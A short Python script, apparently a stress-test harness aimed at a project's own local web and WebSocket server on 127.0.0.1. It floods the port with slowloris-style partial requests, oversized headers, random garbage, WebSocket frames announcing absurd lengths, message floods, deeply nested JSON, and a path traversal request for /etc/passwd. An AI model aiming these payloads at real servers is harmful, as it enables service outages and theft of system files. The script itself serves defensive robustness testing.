"""Attacks on the port of a page: `page_attacks.py PORT KIND` opens connections and sends, as fast as they are taken."""

import os
import socket
import sys
import time

MOST = 250  # connections at a time
PERIOD = 0.005  # [s] between two


def frame(payload, length=None):
    """A masked frame of a WebSocket; `length` is what it announces."""
    size = len(payload) if length is None else length
    return b"\x81\xff" + size.to_bytes(8, "big") + bytes(4) + payload


def text(message, count=1):
    """Frames of a text."""
    return frame(message.encode()) * count


UPGRADE = None  # in place of bytes: the greeting of a WebSocket
ASK = '{"ask": "describe", "number": 1, "content": {"name": "robot1"}}'
# What each kind is, and what it sends over each connection.
ATTACKS = {
    "silent": ("connections that send nothing", []),
    "half": ("connections that send half a request", [b"GET / HTTP/1.1\r\nHost: 127"]),
    "endless": ("requests without an end", [b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20000]),
    "garbage": ("connections that send garbage", [os.urandom(65536)]),
    "traversal": ("requests for files", [b"GET /client/../../../../etc/passwd HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"]),
    "lazy": ("pages that read nothing", [UPGRADE]),
    "giant": ("pages that announce frames of 4 EB", [UPGRADE, frame(b"x" * 65536, 1 << 62)]),
    "wants": ("pages that want fields without an end", [UPGRADE, text('{"want": "fields", "names": ["a.b.c"]}', 2000)]),
    "flood": ("pages that ask without an end", [UPGRADE, text(ASK, 2000)]),
    "deep": ("pages that nest messages", [UPGRADE, text('{"ask":' + "[" * 100000)]),
    "portraits": ("requests for images of models", [b"GET /portraits/Shrimp HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 50]),
}


def greeting(port):
    """The request for a page's socket, without a token."""
    head = f"GET /socket HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    return f"{head}Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()


def attack(port, kind):
    """Attack until the process ends."""
    data = b"".join(greeting(port) if part is UPGRADE else part for part in ATTACKS[kind][1])
    opened = []
    while True:
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.settimeout(0.2)
        try:
            one.connect(("127.0.0.1", port))
            one.sendall(data)
            opened.append(one)
        except OSError:
            one.close()
        if len(opened) > MOST:
            opened.pop(0).close()
        time.sleep(PERIOD)


if __name__ == "__main__":
    attack(int(sys.argv[1]), sys.argv[2])
